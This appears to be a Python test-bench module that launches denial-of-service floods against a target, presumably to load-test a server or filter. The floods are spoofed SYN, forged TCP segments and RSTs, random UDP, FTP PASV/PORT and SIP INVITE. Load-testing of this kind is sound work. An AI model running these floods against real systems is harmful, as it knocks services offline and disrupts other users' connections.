"""The floods themselves.

A process of its own on the attacker's host:
`python -E -m tests.bench.floods.attack KIND PARAMETERS`, the parameters as a JSON object. Prints a
line when it begins, and one with a JSON object when its time is over: what was sent.
"""

from __future__ import annotations

import errno
import itertools
import json
import random
import socket
import sys
import threading
import time
from collections.abc import Callable, Sequence
from ipaddress import IPv4Address, IPv4Network

from tests.bench.floods import frames
from tests.bench.floods.frames import ACK, PSH, RST, SYN, Seen, Way
from tests.bench.load import Control, LoadError, port_argument

_GATEWAY_MAC = bytes.fromhex("02a160000001")
_INTERFACE = "eth0"
_ETH_P_ALL = 3
_FRAMES = 20_000
"""Different ones; then from the beginning again."""
_BATCH_SECONDS = 0.001
_LINE = b"NOOP\r\n"
_SEED = 4242
_PATIENCE_SECONDS = 5.0


def syn(sources: str, target: str, port: int, rate: int, seconds: float) -> int:
    """SYNs from random addresses and ports."""
    draw = random.Random(_SEED)
    addresses = IPv4Network(sources)
    return _flood(
        [
            frames.tcp(_from(draw, addresses, target, port), SYN, draw.getrandbits(32))
            for _ in range(_FRAMES)
        ],
        rate,
        seconds,
    )


def octets(target: str, port: int, rate: int, seconds: float) -> int:
    """Segments of one octet on one connection, whatever the other end acknowledges.

    The kernel makes the connection; it does not know what is sent on it then.
    """
    with _packets(_ETH_P_ALL) as heard, socket.create_connection((target, port), 5) as connection:
        connection.recv(4096)
        own = connection.getsockname()[1]
        # The banner may not have been acknowledged yet.
        connection.sendall(_LINE)
        connection.recv(4096)
        last = _last_sent(heard, own)
        segments = [
            frames.tcp(
                last.way,
                PSH | ACK,
                last.sequence + number,
                last.acknowledged,
                _LINE[number % len(_LINE) :][:1],
            )
            for number in range(_FRAMES // len(_LINE) * len(_LINE))
        ]
        sent = _flood(segments, rate, seconds)
        # Whatever the other end has taken: one of these is where it is.
        resets = [
            frames.tcp(last.way, RST, last.sequence + number) for number in range(len(segments))
        ]
        return sent + _flood(resets, rate, len(resets) / rate)


def _last_sent(heard: socket.socket, own: int) -> Seen:
    """Where the connection of our port `own` is, by the last segment that left."""
    last: Seen | None = None
    heard.settimeout(0.3)
    deadline = time.monotonic() + _PATIENCE_SECONDS
    while time.monotonic() < deadline:
        try:
            seen = frames.read(heard.recv(2048))
        except TimeoutError:
            break
        if seen is not None and seen.way.port == own:
            last = seen
    if last is None:
        raise OSError("nothing of the own connection was seen")
    return last


def garbage(sources: str, target: str, ports: Sequence[int], rate: int, seconds: float) -> int:
    """Datagrams of random bytes from random addresses, to any of these ports."""
    draw = random.Random(_SEED)
    addresses = IPv4Network(sources)
    return _flood(
        [
            frames.udp(
                _from(draw, addresses, target, draw.choice(ports)),
                draw.randbytes(draw.randrange(1, 200)),
            )
            for _ in range(_FRAMES)
        ],
        rate,
        seconds,
    )


def announcements(target: str, port: int, connections: int, rate: int, seconds: float) -> int:
    """PASV and PORT again and again, and no data, on many connections."""
    stop = threading.Event()
    sent = [0] * connections
    pause = connections / rate

    def announce(number: int) -> None:
        while not stop.is_set():
            try:
                control = Control(target, port)
                address = control.socket.getsockname()[0]
                with control.socket:
                    for turn in itertools.count():
                        data_port = 20_000 + (turn * 41 + number) % 10_000
                        if turn % 2:
                            control.ask(b"PORT " + port_argument(address, data_port), b"200")
                        else:
                            control.ask(b"PASV", b"227")
                        sent[number] += 1
                        if stop.wait(pause):
                            return
            except (LoadError, OSError):
                # Refused: then from the beginning.
                stop.wait(0.1)

    threads = [threading.Thread(target=announce, args=(number,)) for number in range(connections)]
    for thread in threads:
        thread.start()
    _begun()
    time.sleep(seconds)
    stop.set()
    for thread in threads:
        thread.join()
    return sum(sent)


def invitations(target: str, rate: int, seconds: float) -> int:
    """INVITEs, each of another call with a description of its own, that nobody answers."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
        own.connect((target, 5060))
        address = own.getsockname()[0]
        own_port = own.getsockname()[1]

        def invitation(number: int) -> bytes:
            body = (
                f"v=0\r\no=- {number} 1 IN IP4 {address}\r\ns=-\r\nc=IN IP4 {address}\r\nt=0 0\r\n"
                f"m=audio {20_000 + number * 2 % 10_000} RTP/AVP 0\r\n"
            )
            return (
                f"INVITE sip:nobody@{target} SIP/2.0\r\n"
                f"Via: SIP/2.0/UDP {address}:{own_port};rport;branch=z9hG4bK-flood-{number}\r\n"
                "Max-Forwards: 70\r\n"
                f"From: <sip:flood@{target}>;tag={number}\r\n"
                f"To: <sip:nobody@{target}>\r\n"
                f"Call-ID: flood-{number}\r\n"
                "CSeq: 1 INVITE\r\n"
                f"Contact: <sip:flood@{address}:{own_port}>\r\n"
                "Content-Type: application/sdp\r\n"
                f"Content-Length: {len(body)}\r\n\r\n{body}"
            ).encode("ascii")

        return _send(own, [invitation(number) for number in range(_FRAMES)], rate, seconds)


def _from(draw: random.Random, addresses: IPv4Network, target: str, port: int) -> Way:
    # Neither the network's own address, nor the router's, nor the broadcast address.
    source = addresses[draw.randrange(2, addresses.num_addresses - 1)]
    return Way(source, draw.randrange(1024, 65536), IPv4Address(target), port)


def _packets(protocol: int) -> socket.socket:
    """A socket for whole frames, which hears those of `protocol`; 0: none."""
    made = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(protocol))
    made.bind((_INTERFACE, protocol))
    return made


def _flood(packets: Sequence[bytes], rate: int, seconds: float) -> int:
    """Send IPv4 packets to the gateway: how many."""
    with _packets(0) as own:
        mac = own.getsockname()[4]
        whole = [frames.ethernet(mac, _GATEWAY_MAC, packet) for packet in packets]
        return _send(own, whole, rate, seconds)


def _send(own: socket.socket, packets: Sequence[bytes], rate: int, seconds: float) -> int:
    """Send them over and over: how many. What the kernel has no room for is not sent."""
    own.setblocking(False)
    turning = itertools.cycle(packets)
    _begun()
    begin = time.monotonic()
    due = sent = 0
    while (now := time.monotonic()) < begin + seconds:
        fresh = int((now - begin) * rate)
        # What was missed for want of processor time does not come in one heap.
        for packet in itertools.islice(turning, min(fresh - due, rate // 50 + 1)):
            try:
                own.send(packet)
                sent += 1
            except (BlockingIOError, ConnectionRefusedError):
                continue
            except OSError as error:
                if error.errno != errno.ENOBUFS:
                    raise
        due = fresh
        time.sleep(_BATCH_SECONDS)
    return sent


_has_begun = threading.Event()


def _begun() -> None:
    """Say so, once."""
    if not _has_begun.is_set():
        _has_begun.set()
        print("begun", flush=True)


_KINDS: dict[str, Callable[..., int]] = {
    "syn": syn,
    "octets": octets,
    "garbage": garbage,
    "announcements": announcements,
    "invitations": invitations,
}


def main(kind: str, parameters: str) -> None:
    """Run one flood."""
    begin = time.monotonic()
    sent = _KINDS[kind](**json.loads(parameters))
    print(json.dumps({"sent": sent, "seconds": time.monotonic() - begin}))


if __name__ == "__main__":
    main(*sys.argv[1:])
